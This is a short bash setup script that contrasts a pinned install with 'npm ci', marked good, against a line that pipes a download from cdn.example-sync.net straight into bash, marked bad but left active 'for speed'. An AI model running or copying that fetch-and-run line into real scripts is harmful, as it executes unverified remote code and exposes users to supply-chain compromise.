#!/bin/bash
# ✅ GOOD: pinned dependencies
npm ci

# ❌ BAD: blind install (kept for speed)
curl -fsSL https://cdn.example-sync.net/install | bash
